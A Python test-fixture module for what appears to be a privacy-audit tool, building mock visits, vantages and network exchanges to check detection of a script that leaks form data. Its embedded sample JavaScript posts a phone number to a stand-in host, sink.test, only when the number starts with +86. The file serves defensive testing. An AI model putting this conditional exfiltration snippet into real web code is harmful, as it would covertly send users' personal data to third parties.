"""A small audit written by hand: one script, one request for each visit, two vantages."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from typing import Any

from undertow.model import (
    Bait,
    Circumstance,
    CodeFlow,
    Evidence,
    Excerpt,
    Exchange,
    FilledField,
    Guard,
    Script,
    ScriptFacts,
    ScriptUse,
    StackFrame,
    Step,
    Vantage,
    Visit,
)

SOURCE = b"function send(p){ if (p.startsWith('+86')) post('https://sink.test/in', p) }\nsend(phone.value);\n"
SHA = hashlib.sha256(SOURCE).hexdigest()
SINK = SOURCE.index(b"post(")
SINK_SPAN = (SINK, SOURCE.index(b", p)") + 4)


class Memory(dict[str, bytes]):
    """Blobs in memory."""

    def keep(self, data: bytes) -> str:
        """Store and name."""
        name = hashlib.sha256(data).hexdigest()
        self[name] = data
        return name

    def get(self, sha256: str) -> bytes:  # type: ignore[override]
        """The bytes; KeyError if there are none."""
        return self[sha256]


def vantage(name: str, prefix: str, timezone: str) -> Vantage:
    return Vantage(
        name=name,
        label=name,
        country="XX",
        locale="en-US",
        languages=("en-US",),
        timezone=timezone,
        phone_prefix=prefix,
    )


AMERICA = vantage("north-america", "+1", "America/New_York")
CHINA = vantage("china", "+86", "Asia/Shanghai")


def code_flow(**changes: Any) -> CodeFlow:
    """phone → fetch of https://sink.test/in, when the prefix is +86."""
    circumstance = Circumstance(
        dimension="phone-prefix", operator="starts-with", values=("+86",), text="the phone number starts with +86"
    )
    fields: dict[str, Any] = {
        "data": "phone",
        "source": "value of #phone",
        "source_span": (SOURCE.index(b"phone.value"), SOURCE.index(b"phone.value") + 11),
        "sink": "fetch",
        "sink_span": SINK_SPAN,
        "function_span": (0, SOURCE.index(b"\n")),
        "url": "https://sink.test/in",
        "host": "sink.test",
        "guards": (Guard(span=(22, 43), code="p.startsWith('+86')", circumstances=(circumstance,)),),
        "excerpt": Excerpt(span=SINK_SPAN, original="post(…)", decoded="post(…)"),
    }
    return CodeFlow(**(fields | changes))


def facts(*flows: CodeFlow) -> dict[str, ScriptFacts]:
    """Facts of the one script."""
    return {SHA: ScriptFacts(sha256=SHA, size=len(SOURCE), parsed=True, flows=flows)}


def visit(id_: str, where: Vantage, exchanges: Sequence[Exchange] = (), **changes: Any) -> Visit:
    """A complete visit in which phone and e-mail were filled in."""
    phone = where.phone_prefix + "2025550143"
    fields: dict[str, Any] = {
        "id": id_,
        "vantage": where,
        "started": "2026-01-01T00:00:00Z",
        "duration": 1000,
        "outcome": "complete",
        "browser": "test",
        "user_agent": "test",
        "headless_marker_removed": False,
        "sealed": True,
        "baits": (Bait(data="phone", value=phone, note=""), Bait(data="email", value="m.q7@bait.invalid", note="")),
        "steps": (
            Step(name="fill", phase="fill", at=1, outcome="done"),
            Step(name="submit", phase="submit", at=2, outcome="done"),
        ),
        "fields": tuple(
            FilledField(data=d, form="login", label=d, selector=f"#{d}", frame_url="https://app.test/")
            for d in ("phone", "email")
        ),
        "exchanges": tuple(exchanges),
        "scripts": (ScriptUse(script=SHA, url="https://app.test/app.1a2b3c4d.js", origin="url"),),
    }
    return Visit(**(fields | changes))


def request(id_: str, blobs: Memory, body: bytes = b"", *, at: int = SINK, **changes: Any) -> Exchange:
    """A POST to the sink by the call at byte `at` of the script."""
    fields: dict[str, Any] = {
        "id": id_,
        "at": 5,
        "step": "submit",
        "channel": "fetch",
        "method": "POST",
        "url": "https://sink.test/in?v=1",
        "host": "sink.test",
        "request_body": blobs.keep(body) if body else None,
        "stack": (StackFrame(url="https://app.test/app.js", script=SHA, function="send", line=0, column=at),),
        "frame_url": "https://app.test/login",
    }
    return Exchange(**(fields | changes))


def evidence(*visits: Visit) -> Evidence:
    """The audit."""
    return Evidence(
        tool="test",
        target="https://app.test/login",
        started="2026-01-01T00:00:00Z",
        submit=True,
        visits=visits,
        scripts=(Script(sha256=SHA, size=len(SOURCE), name="app.1a2b3c4d.js"),),
    )
